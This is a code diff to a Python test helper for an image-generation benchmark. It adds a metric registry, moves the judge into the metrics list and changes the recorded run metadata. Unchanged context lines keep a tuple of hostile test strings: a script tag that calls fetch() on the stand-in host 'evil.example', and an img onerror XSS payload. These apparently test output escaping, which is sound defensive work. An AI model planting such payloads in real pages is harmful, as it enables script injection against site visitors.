@@ -11,6 +11,8 @@ import numpy as np
 import pandas as pd
 from PIL import Image
 
+from bench import registry
+
 HOSTILE = (
     "<script>fetch('https://evil.example/x')</script>",
     "a \"quoted\" & 'single' <img src=x onerror=alert(1)>",
@@ -133,8 +135,7 @@ def suite(prompt_sets: tuple[str, ...], guidance: tuple[float, ...], image_seeds
             "protocol": "mean",
             "batch_size": 32,
         },
-        "metrics": ["pickscore", "clip", "aesthetic"],
-        "judge": "mini",
+        "metrics": ["pickscore", "clip", "aesthetic", "judge"],
         "metric_options": {},
         "methods": {
             "sft": {"iterations": [{"steps": 200, "lr": 1e-5}]},
@@ -203,9 +204,9 @@ def write_run(
         "model": {"weights": "mini", "fingerprint": "abc"},
         "versions": {"torch": "2.13.0"},
         "git_commit": "0" * 40,
-        "judge": {"version": "1", "accuracy": 0.97},
         "created": created,
-        "metrics": {m: {"version": "mini", "scale": "cosine"} for m in metrics if "/" not in m},
+        "metrics": {m: {**registry.metric(m).description(), "version": "mini", "scale": "cosine"}
+                    for m in dict.fromkeys(column.partition("/")[0] for column in metrics)},
         "prompt_sets": {p: {"source": f"world:{p}", "count": count} for p in prompt_sets},
     }
     (folder / "protocol.json").write_text(json.dumps(protocol))
